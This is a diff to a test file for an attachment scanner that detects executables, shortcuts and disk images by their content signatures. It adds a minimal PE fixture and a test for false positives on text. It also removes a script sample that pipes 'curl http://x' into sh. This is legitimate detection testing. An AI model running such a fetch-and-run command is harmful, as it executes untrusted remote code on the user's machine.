@@ -31,12 +31,14 @@ OLE_WITH_MACROS = (
 )
 OOXML_WITH_MACROS = zip_of(("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", b"vba"))
 
+# The smallest PE layout: MZ, e_lfanew at 0x3c pointing at "PE\0\0".
+PE_FILE = b"MZ\x90\x00" + bytes(0x38) + (0x40).to_bytes(4, "little") + b"PE\0\0" + bytes(200)
+
 # One sample per content signature, each under a harmless-looking name.
 BY_CONTENT = [
-    ("ATTACH_EXECUTABLE", b"MZ\x90\x00" + bytes(200), "Windows/DOS executable"),
+    ("ATTACH_EXECUTABLE", PE_FILE, "Windows executable (PE)"),
     ("ATTACH_EXECUTABLE", b"\x7fELF\x02\x01\x01" + bytes(100), "ELF executable"),
     ("ATTACH_EXECUTABLE", bytes.fromhex("cffaedfe") + bytes(100), "Mach-O executable"),
-    ("ATTACH_SCRIPT", b"#!/bin/sh\ncurl http://x | sh\n", "script (#!)"),
     ("ATTACH_SHORTCUT", LNK, "Windows shortcut"),
     ("ATTACH_DISK_IMAGE", bytes(0x8001) + b"CD001" + bytes(2000), "ISO 9660 disk image"),
     ("ATTACH_DISK_IMAGE", b"conectix" + bytes(504), "VHD disk image"),
@@ -205,3 +207,11 @@ def test_rules_file_errors_are_reported_together(tmp_path: Path) -> None:
     assert "shortcut.content: unknown ['magic']" in problems
     with pytest.raises(ConfigError, match="no such file"):
         load_type_rules(tmp_path / "missing.toml")
+
+
+def test_text_that_merely_starts_with_mz_or_a_shebang_is_not_blocked() -> None:
+    raw = message(
+        ("countries.csv", b"MZ,Mozambique,Maputo\n" * 20),
+        ("notes.txt", b"#!/bin/sh is the first line of a script\n"),
+    )
+    assert scan(raw) == {}
